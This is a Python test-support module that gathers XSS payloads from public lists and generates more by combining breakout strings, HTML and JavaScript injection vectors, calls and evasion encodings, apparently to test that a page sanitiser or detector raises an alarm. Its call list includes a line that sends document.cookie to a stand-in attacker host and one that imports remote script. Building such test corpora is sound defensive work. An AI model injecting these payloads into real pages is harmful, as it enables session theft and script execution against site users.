"""Where hostile words come from: public lists in files, and a generator of our own.

A list is a text file with one payload in each line, or JSON: every string in it that stands in a
list, or under one of a few names. Lists are read where they lie and kept nowhere.
"""

import json
import random
from collections.abc import Iterable, Iterator, Sequence
from itertools import product
from pathlib import Path
from typing import Any
from urllib.parse import quote

from tests.support.payloads import PAYLOADS

# Nobody's attack, but shown in another way than plain words.
_ODD = (
    "in\u200bvis\u2060ible", "call \u202e211\u202c now", "a" + "\u0301" * 60, "one\ntwo\n\nthree",
    "call +45 12 34 56 78 or write to a@help.example", "\u0645\u0631\u062d\u0628\u0627 (112)",
    "\U0001f468\u200d\U0001f469 \u3164", "\ue000 \ufffd \u2028", "w" * 300, "https://help.example/x",
    "\U000e0041\U000e0042",
)  # fmt: skip
# Under which a payload stands in JSON that also describes it.
_NAMES = frozenset({"code", "payload", "vector", "input"})

# What a payload breaks out of: text, either kind of quotes, elements that hold text, a comment.
BREAKS = (
    "", '"', "'", "`", '">', "'>", "--!>", "]]>", "</p>", "</bdi>", "</textarea>", "</title>",
    "</option></select>", "</script>", "</style>", "</template>", "</noscript>", "</details>",
    "</dialog>", "\\", "\n", "\0", "\ufeff", "x'y\"z>",
)  # fmt: skip
_CALLS = ("alert(1)", "alert`1`", "top[`al`+`ert`](1)", "import('//evil.example/x')",
          "fetch('//evil.example/'+document.cookie)", "location='//evil.example/'")  # fmt: skip
_BODIES = (
    "<script>{}</script>", "<ScRiPt/x>{}</sCrIpT >", "<img src=x onerror={}>",
    "<img/src/onerror={}>", "<svg onload={}>", "<svg/onload={}//", "<body onload={}>",
    "<video><source onerror={}>", "<details open ontoggle={}>", "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>", "<marquee onstart={}>", "<a href=javascript:{}>x</a>",
    "<iframe srcdoc='<script>{}</script>'>", "<iframe src=javascript:{}>",
    "<object data=javascript:{}>", "<embed src=javascript:{}>",
    "<form action=javascript:{}><button>",
    "<math><a xlink:href=javascript:{}>x", "<svg><animate onbegin={} attributeName=x>",
    "<style onload={}></style>", "<link rel=stylesheet href=//evil.example onerror={}>",
    "<meta http-equiv=refresh content=0;url=javascript:{}>", "<base href=javascript:{}//>",
    "<x contenteditable onblur={} autofocus tabindex=1>",
    "<button popovertarget=x>x<b popover id=x onbeforetoggle={}>",
    "<template shadowrootmode=open><img src onerror={}></template>",
    " onmouseover={} ", " autofocus onfocus={} ", " style=animation:x onanimationstart={} ",
    "javascript:{}", "data:text/html,<script>{}</script>",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}", "<%= {} %>", ";{};//",
)  # fmt: skip
_COATS = (
    str,
    str.upper,
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: "".join(f"&#{ord(one)};" if one in "<>\"'=" else one for one in text),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    quote,
    lambda text: text.replace(" ", "\x0c").replace("=", " = "),
    lambda text: "\u202e" + text,
)


def own() -> Iterator[str]:
    """Yield every payload of ours: those written by hand, then each break with each body."""
    yield from PAYLOADS
    for break_, body, call, coat in product(BREAKS, _BODIES, _CALLS, _COATS):
        yield coat(break_ + body.format(call))


def calm(seed: str, number: int) -> Sequence[str]:
    """Return words that want nothing, among them all that a page marks, folds or turns round."""
    chance = random.Random(seed)
    words = ("help", "pay", "boss", "papers", "night", "train", "doctor", "sister", "money", "work")
    said = [" ".join(chance.choices(words, k=chance.randint(1, 9))) for _ in range(number)]
    return [*said, *_ODD, *said[: number // 4]]


def sampled(payloads: Iterable[str], number: int, seed: str) -> Sequence[str]:
    """Return some of the payloads, the same for the same seed; all if there are fewer."""
    every = list(dict.fromkeys(payloads))
    return random.Random(seed).sample(every, min(number, len(every)))


def read(path: Path) -> Sequence[str]:
    """Read a public list; ValueError if there is nothing in it."""
    raw = path.read_bytes()
    if path.suffix == ".json":
        found = list(_strings(json.loads(raw), listed=False))
    else:
        found = raw.decode("utf-8", "surrogateescape").splitlines()
    found = [one for one in found if one.strip()]
    if not found:
        raise ValueError(f"there is no payload in {path}")
    return found


def _strings(data: Any, *, listed: bool) -> Iterator[str]:
    if isinstance(data, str):
        if listed:
            yield data
    elif isinstance(data, list):
        for one in data:
            yield from _strings(one, listed=True)
    elif isinstance(data, dict):
        for name, one in data.items():
            # A list of names of browsers, say, is no list of payloads.
            if name in _NAMES or isinstance(one, dict):
                yield from _strings(one, listed=name in _NAMES)
            elif isinstance(one, list):
                yield from _strings(
                    [each for each in one if not isinstance(each, str)], listed=True
                )


def packed(payloads: Iterable[str], characters: int) -> Iterator[str]:
    """Join payloads to texts of at most so many characters (UTF-16 units); 1 keeps them apart.

    Nothing hides behind what stands before it: to change how a page is read, a payload must add
    an element, an attribute or a comment, and each of these sets off the alarm.
    """
    text = ""
    for one in payloads:
        payload = one.encode("utf-16-le", "replace").decode("utf-16-le", "replace")
        if text and _length(text) + 1 + _length(payload) > characters:
            yield text
            text = ""
        text = f"{text} {payload}" if text else payload
        if _length(text) > max(characters, 1):
            text = text if characters <= 1 else _cut(text, characters)
    if text:
        yield text


def _length(text: str) -> int:
    return len(text.encode("utf-16-le")) // 2


def _cut(text: str, characters: int) -> str:
    return text.encode("utf-16-le")[: 2 * characters].decode("utf-16-le", "ignore")
